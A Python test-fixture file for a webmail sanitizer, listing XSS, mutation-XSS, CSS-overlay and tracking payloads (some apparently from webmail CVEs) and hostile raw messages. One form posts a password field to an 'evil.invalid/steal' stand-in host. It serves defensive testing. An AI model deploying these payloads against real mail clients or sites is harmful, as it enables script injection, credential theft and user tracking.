# ruff: noqa: E501 - one payload a line reads best
"""Hostile mail: HTML for the sanitizer, and whole messages for a real browser engine.

SANITIZER_PAYLOADS are HTML bodies from webmail CVEs (Roundcube, Horde, Zimbra,
SquirrelMail) and the usual mutation-XSS corpus. HTML_PAYLOADS and RAW_PAYLOADS go
beyond them, for Chromium: every script here, if it ever ran, would leave a trace
the browser reports: a request to the live server's sentinel path `/__xss__/<id>`
(visible from the sandboxed frame too, whose origin is opaque), `top.__xss`, the
top document's title, or an `alert` dialog. Remote URLs point at `.invalid` hosts:
any request for them is recorded and aborted by the test's router, never sent.
"""

from __future__ import annotations

from testkit import mailfactory as mf

# (id, HTML) - every one is hostile or a leak; the sanitizer must neutralise all of them
# (tests/mailcore/test_sanitize.py), and Chromium must run none of them once sanitized
# (tests/browser/test_hostile_mail.py).
SANITIZER_PAYLOADS: list[tuple[str, str]] = [
    ("script", "<script>alert(1)</script>ok"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-src-upper", '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>'),
    ("script-in-attr-break", '<div title="x"><script>alert(1)</script></div>'),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-noquote", "<img src=x onerror=alert`1`//>"),
    ("a-onmouseover", '<a href="https://ok.example" onmouseover="alert(1)">x</a>'),
    ("body-onload", "<body onload=alert(1)>hi</body>"),
    ("table-onclick", "<table onclick=alert(1)><tr><td onmouseover=alert(1)>x</td></tr></table>"),
    ("div-onfocus", '<div tabindex=1 onfocus="alert(1)" autofocus>x</div>'),
    ("font-onmouseenter", "<font color=red onmouseenter=alert(1)>x</font>"),
    ("span-slash-handler", "<span/onclick=alert(1)>x</span>"),
    ("href-js", '<a href="javascript:alert(1)">x</a>'),
    ("href-js-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("href-js-entity", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("href-js-hex-entity", '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>'),
    ("href-js-tab", '<a href="java&#x09;script:alert(1)">x</a>'),
    ("href-js-newline", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    ("href-js-cr", '<a href="jav&#13;ascript:alert(1)">x</a>'),
    ("href-js-leading-space", '<a href=" &#14;  javascript:alert(1)">x</a>'),
    ("href-js-noquote", "<a href=javascript:alert(1)>x</a>"),
    ("href-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    (
        "href-data-html",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    ),
    ("img-src-js", '<img src="javascript:alert(1)">'),
    ("img-src-data-svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("img-src-data-html", '<img src="data:text/html,<script>alert(1)</script>">'),
    ("table-background-js", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    (
        "td-background-data",
        '<table><tr><td background="data:image/png;base64,AAAA">x</td></tr></table>',
    ),
    ("form-action", '<form action="javascript:alert(1)"><input type=submit value=go></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">go</button>'),
    ("a-xlink-href", '<a xlink:href="javascript:alert(1)">x</a>'),
    ("video-poster", '<video poster="javascript:alert(1)"></video>'),
    (
        "svg-animate",
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text x=20 y=20>click</text></a></svg>",
    ),
    (
        "svg-set",
        '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>click</text></a></svg>',
    ),
    ("svg-onload", "<svg onload=alert(1)>"),
    (
        "math-maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'
        "click<mtext>x</mtext></maction></math>",
    ),
    ("style-expression", "<style>body{width:expression(alert(1))}</style>ok"),
    ("style-url-js", "<style>body{background:url(javascript:alert(1))}</style>ok"),
    ("style-import", '<style>@import "https://evil.example/x.css";</style>ok'),
    ("base-href", '<base href="javascript:alert(1)//"><a href="/x">x</a>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("iframe-src", '<iframe src="javascript:alert(1)"></iframe>'),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-src", '<embed src="javascript:alert(1)">'),
    ("applet", '<applet code="x.class"><param name=x value=y></applet>'),
    ("link-stylesheet", '<link rel=stylesheet href="https://evil.example/x.css">'),
    ("mxss-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("mxss-title", "<title><img src=x onerror=alert(1)></title>"),
    ("mxss-textarea", "<textarea></textarea><img src=x onerror=alert(1)>"),
    ("mxss-textarea-inside", "<textarea><img src=x onerror=alert(1)></textarea>"),
    ("mxss-textarea-close", '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'),
    ("mxss-svg-style", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("mxss-math-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    (
        "mxss-form-math",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    ("mxss-svg-p", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("mxss-comment", "<!--<img src=x onerror=alert(1)>-->"),
    ("mxss-conditional", "<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->ok"),
    ("mxss-xmp", "<xmp><img src=x onerror=alert(1)></xmp>"),
    ("mxss-template", "<template><img src=x onerror=alert(1)></template>"),
    (
        "css-overlay",
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
    ),
    ("css-overlay-case", '<div style="POSITION : Absolute ; top:0">x</div>'),
    ("css-behavior", '<div style="behavior:url(x.htc)">x</div>'),
    ("css-moz-binding", '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>'),
    ("css-expression", '<div style="width:expression(alert(1))">x</div>'),
    ("css-expression-escaped", '<div style="width:expr\\65 ssion(alert(1))">x</div>'),
    ("css-expression-comment", '<div style="width:ex/**/pression(alert(1))">x</div>'),
    ("css-url-js", '<div style="background:url(javascript:alert(1))">x</div>'),
    ("css-url-js-quoted", "<div style=\"background-image:url('javascript:alert(1)')\">x</div>"),
    ("css-import", '<div style="@import url(https://evil.example/x.css); color:red">x</div>'),
    (
        "css-escaped-quote",
        '<div style="font-family:&quot;a\\&quot;;position:fixed;x&quot;">x</div>',
    ),
    ("css-remote-bg", '<div style="background:url(https://tracker.example/p.gif)">x</div>'),
    (
        "css-image-set",
        "<div style=\"background-image:image-set('https://tracker.example/p' 1x)\">x</div>",
    ),
    ("tracking-pixel", '<img src="https://t.example/p.gif" width=1 height=1>'),
    ("srcset", '<img srcset="https://tracker.example/a.png 1x">'),
    (
        "picture-source",
        '<picture><source srcset="https://tracker.example/a.png">'
        '<img src="https://tracker.example/b.png"></picture>',
    ),
    ("protocol-relative", '<img src="//evil.example/x">'),
    ("protocol-relative-backslash", '<img src="/\\evil.example/x">'),
    ("relative-src", '<img src="/accounts/logout/">'),
    ("input-image", '<input type=image src="https://tracker.example/x">'),
    ("audio", '<audio src="https://tracker.example/x.mp3" autoplay></audio>'),
    ("class-id-clobber", '<form id=csrf><p class="messages" id="body">x</p></form>'),
    ("data-attrs", '<div data-foo="javascript:alert(1)" aria-label=x>x</div>'),
]


def js(tag: str) -> str:
    """The marker a payload's script would run (no quotes, so it fits any attribute)."""
    return (
        f"fetch(`/__xss__/{tag}`);new Image().src=`/__xss__/{tag}`;"
        "top.document.title=`XSS`;top.__xss=1;alert(1)"
    )


EVIL = "https://evil.invalid"

# (id, HTML body) - rendered in the sandboxed body frame.
HTML_PAYLOADS: list[tuple[str, str]] = [
    ("svg-foreignobject-script", f"<svg><foreignObject><script>{js('fo')}</script></foreignObject></svg>x"),
    ("svg-script-href", f'<svg><script href="data:,{js("svgsrc")}"/></svg>x'),
    ("svg-animate-onbegin", f"<svg><animate onbegin=\"{js('onbegin')}\" attributeName=x dur=1s>"),
    ("svg-image-remote", f'<svg><image href="{EVIL}/svg-image.png"/></svg>x'),
    ("svg-use-remote", f'<svg><use href="{EVIL}/sprite.svg#a"/></svg>x'),
    ("svg-feimage-remote", f'<svg><filter id=f><feImage href="{EVIL}/fe.png"/></filter></svg>x'),
    ("iframe-srcdoc-parent", f"<iframe srcdoc=\"<script>{js('srcdoc')}</script>\"></iframe>x"),
    ("iframe-data-url", f'<iframe src="data:text/html,<script>{js("dataframe")}</script>"></iframe>'),
    ("object-data-svg", f"<object data=\"data:image/svg+xml,<svg onload='{js('objsvg')}'/>\"></object>"),
    ("object-remote", f'<object data="{EVIL}/x.swf" type="application/x-shockwave-flash"></object>'),
    ("embed-html", f"<embed src=\"data:text/html,<script>{js('embed')}</script>\" type=text/html>"),
    ("img-onerror-marker", f"<img src=x onerror=\"{js('onerror')}\">"),
    ("body-onload-marker", f"<body onload=\"{js('onload')}\">x</body>"),
    ("details-ontoggle", f"<details open ontoggle=\"{js('toggle')}\"><summary>s</summary>x</details>"),
    ("video-source-onerror", f"<video><source onerror=\"{js('source')}\"></video>x"),
    ("marquee-onstart", f"<marquee onstart=\"{js('marquee')}\">x</marquee>"),
    ("input-autofocus", f"<input autofocus onfocus=\"{js('autofocus')}\">"),
    ("form-autosubmit", f'<form action="{EVIL}/steal" method=post><input name=pw value=x></form>'),
    ("math-href-js", f'<math href="javascript:{js("mathhref")}"><mi>click</mi></math>'),
    ("noembed-mxss", f'<noembed><img title="</noembed><img src=x onerror={js("noembed")}>">'),
    ("noframes-mxss", f'<noframes><p title="</noframes><img src=x onerror={js("noframes")}>">'),
    ("select-style-mxss", f"<select><style></select><img src=x onerror=\"{js('select')}\">"),
    ("namespace-script", f"<html xmlns:x=\"http://www.w3.org/1999/xhtml\"><x:script>{js('ns')}</x:script>"),
    ("meta-refresh-remote", f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">x'),
    ("meta-csp-override", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">x"),
    ("base-href-remote", f'<base href="{EVIL}/"><img src="base.png"><a href="rel">x</a>'),
    ("link-prefetch", f'<link rel=prefetch href="{EVIL}/prefetch"><link rel=preload as=image href="{EVIL}/preload.png">x'),
    ("style-import-remote", f"<style>@import url({EVIL}/import.css);</style>x"),
    ("style-font-face-remote", f"<style>@font-face{{font-family:z;src:url({EVIL}/f.woff)}}p{{font-family:z}}</style><p>x</p>"),
    ("style-content-url", f"<style>p::before{{content:url({EVIL}/before.png)}}</style><p>x</p>"),
    ("css-cursor-remote", f'<div style="cursor:url({EVIL}/c.cur),auto">x</div>'),
    ("css-list-style-remote", f'<ul style="list-style-image:url({EVIL}/li.png)"><li>x</li></ul>'),
    ("css-border-image-remote", f'<div style="border:5px solid;border-image:url({EVIL}/b.png) 30">x</div>'),
    ("css-mask-remote", f'<div style="-webkit-mask-image:url({EVIL}/m.png);mask-image:url({EVIL}/m.png)">x</div>'),
    ("body-background-remote", f'<body background="{EVIL}/body-bg.png">x</body>'),
    ("video-poster-remote", f'<video poster="{EVIL}/poster.png"></video>x'),
    ("track-remote", f'<video><track src="{EVIL}/t.vtt" default></video>x'),
    ("img-srcset-remote-only", f'<img srcset="{EVIL}/s.png 1x, {EVIL}/s2.png 2x" alt=s>'),
    ("anchor-ping", f'<a href="https://ok.invalid/" ping="{EVIL}/ping">x</a>'),
    ("anchor-target-top", '<a href="https://ok.invalid/" target=_top>x</a>'),
    ("css-fixed-overlay", '<div style="position:fixed;inset:0;z-index:2147483647;background:red">COVER</div>'),
    ("css-negative-margin", '<div style="margin-top:-5000px;margin-left:-5000px;height:10000px;width:10000px;background:red">x</div>'),
    ("css-transform-scale", '<div style="transform:scale(60);background:red">x</div>'),
    ("css-outline-huge", '<div style="outline:5000px solid red">x</div>'),
    ("css-box-shadow-huge", '<div style="box-shadow:0 0 0 5000px red">x</div>'),
    ("table-width-huge", '<table width=100000 bgcolor=red><tr><td>x</td></tr></table>'),
    ("dialog-modal", '<dialog open style="position:fixed;inset:0">fake login</dialog>'),
    ("popover-top-layer", '<div popover=manual id=p style="inset:0">cover</div><button popovertarget=p>x</button>'),
    ("clobber-ids", '<img name=getElementById><form id=check-mail></form><a id=compose-form>x</a>'),
    ("font-size-huge", '<p style="font-size:5000px;line-height:5000px">HUGE</p>'),
]  # fmt: skip

# (id, raw message) - hostile headers, text bodies, charsets and attachment names,
# which the top page itself renders (escaped) or the frame shows.
SUBJECT_XSS = f"<img src=x onerror={js('subject')}><script>{js('subject2')}</script>"
RAW_PAYLOADS: list[tuple[str, bytes]] = [
    ("subject-markup", mf.plain(SUBJECT_XSS, "body\n")),
    (
        "from-name-markup",
        mf.plain("from", "x\n", from_=f'"<svg onload={js("from")}>" <evil@evil.invalid>'),
    ),
    (
        "to-cc-markup",
        mf.plain(
            "to",
            "x\n",
            to=f'"<img src=x onerror={js("to")}>" <bob@example.test>',
            headers=[("Cc", f'"</dd><script>{js("cc")}</script>" <c@example.test>')],
        ),
    ),
    (
        "text-plain-markup",
        mf.plain(
            "text",
            f"<script>{js('text')}</script>\n<img src=x onerror={js('text2')}>\n"
            f'javascript:{js("textjs")} https://ok.invalid/"onmouseover="{js("textattr")}\n',
        ),
    ),
    (
        "utf7-html",
        mf.html_only(f"+ADw-script+AD4-{js('utf7')}+ADw-/script+AD4-x", charset="utf-7"),
    ),
    (
        "cp949-labelled-script",
        mf.message(
            mf.text_part(
                f"<p>안녕</p><script>{js('cp949')}</script>",
                "html",
                charset="cp949",
                label="euc-kr",
            ),
            subject="euc-kr",
        ),
    ),
    (
        "filename-markup",
        mf.with_attachments(
            attachments=[
                (f'"><img src=x onerror={js("fname")}>.txt', "text/plain", b"x"),
                ("exe\u202efdp.html", "text/html", f"<script>{js('rlo')}</script>".encode()),
            ],
            subject="filenames",
        ),
    ),
    (
        "cid-svg-inline",
        mf.message(
            mf.multipart(
                "related",
                mf.text_part('<p>logo</p><img src="cid:evil@x">', "html"),
                mf.attachment_part(
                    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{js('cidsvg')}'/>".encode(),
                    None,
                    "image/svg+xml",
                    disposition=None,
                    content_id="evil@x",
                ),
            ),
            subject="cid svg",
        ),
    ),
    (
        "cid-png-really-svg",
        mf.message(
            mf.multipart(
                "related",
                mf.text_part('<p>logo</p><img src="cid:fake@x">', "html"),
                mf.attachment_part(
                    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{js('cidpng')}'/>".encode(),
                    None,
                    "image/png",
                    disposition=None,
                    content_id="fake@x",
                ),
            ),
            subject="cid png",
        ),
    ),
    (
        "alternative-html-wins",
        mf.alternative("plain", f'<p>html</p><img src=x onerror="{js("alt")}">'),
    ),
]
